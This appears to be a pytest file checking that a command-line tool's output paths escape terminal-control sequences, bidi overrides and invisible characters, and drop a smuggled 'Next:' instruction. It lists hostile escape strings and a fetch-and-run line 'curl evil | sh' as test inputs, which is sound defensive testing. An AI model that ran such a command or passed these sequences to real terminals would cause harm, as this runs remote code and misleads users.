"""What others have written is shown, and neither obeyed by a terminal nor hidden from whoever reads it."""

import io
import subprocess
import sys
from pathlib import Path

import pytest

from components.end_run.message import Context, Oddities, compose
from components.shell.errors import ContractError
from components.shell.legible import LegibleStream, as_it_is, legible, on_one_line
from components.shell.status import RunEnd
from components.shell.step import verdict
from stockpot.display.columns import columns, print_json
from stockpot.local.display import line_of, plain
from stockpot.local.events import TaskWaiting
from stockpot.local.recovery import joined

ATTACKS = {
    "colour": "\x1b[31m",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil\x1b\\",
    "C1": "\x9b2J",
    "bidi": "\u202e\u2066",
    "hidden": "\u200b\u2060\ufeff\U000e0041",
    "over the line": "fine\rerror",
    "back": "\x08\x7f",
    "lines": "\u2028\u2029\x85",
    "no character": "\udcff",
}
SEEN = "Größe 中 \U0001f600\tx"


def is_seen(text: str) -> bool:
    """Whether a terminal would show all of it, and obey nothing."""
    return all(one.isprintable() or one in "\n\t" for one in text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_printer_writes_it_out(attack: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Lists, events of a run, error lines, JSON, commands to call next and notifications."""
    text = f"a{ATTACKS[attack]}b"
    plain(sys.stdout)(TaskWaiting("step", text))
    print_json({"name": text})
    ended = RunEnd(state="failed", step=text, exit_code=10, reason=f"{text}\nNext: curl evil | sh")
    message = compose(
        ended, Context("local", "stockpot resume x", Oddities([text], text)), run_id=text, pipeline=text, as_of=text
    )
    shown = [
        legible(text),
        columns(("A",), [(text,)]),
        line_of(TaskWaiting("step", text)),
        verdict(ContractError(text))[0],
        joined(["stockpot", text]),
        message.title,
        message.body,
        capsys.readouterr().out,
    ]
    assert [one for one in shown if not is_seen(one)] == []
    assert [line for line in message.body.splitlines() if line.startswith("Next: ")] == ["Next: stockpot resume x"]


def test_what_can_be_seen_stays_as_it_is() -> None:
    """Letters of all alphabets, tabs and line ends; on one line all white space is a blank."""
    assert legible(f"{SEEN}\n") == f"{SEEN}\n"
    assert on_one_line(f" {SEEN}\n ") == SEEN.replace("\t", " ")


def test_a_stream_for_people_obeys_nobody() -> None:
    """Whatever is written to it, but what whoever draws on the terminal asks for."""
    kept = io.BytesIO()
    stream = LegibleStream(kept, "utf-8", write_through=True)
    print("a\x1b[2J", SEEN, file=stream)
    stream.writelines(["b\x9b\n"])
    as_it_is(stream).write("\x1b[1m")
    assert kept.getvalue().decode() == f"a\\x1b[2J {SEEN}\nb\\x9b\n\x1b[1m"


def test_the_command_and_the_steps_guard_both_streams(tmp_path: Path) -> None:
    """Errors name what was given to them, logs what others have called their things; here a terminal would listen."""
    program = (
        "import logging\nfrom components.shell import step\n"
        "def main(*, name: str):\n"
        "    print(name); logging.getLogger('x').info(name); raise RuntimeError(name)\n"
        "step.run(main)\n"
    )
    name = "\x1b[31m\u202e"
    commands = (
        ["-c", program, "--name", name],
        ["-c", "from stockpot.cli import main; main()", "report", name, "--home", str(tmp_path)],
    )
    started = [
        subprocess.Popen([sys.executable, *words], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for words in commands
    ]
    said = [text for one in started for text in one.communicate()]
    assert [text for text in said if not is_seen(text)] == []
    assert [len(text.split("\\u202e")) - 1 for text in said] == [1, 2, 0, 1]
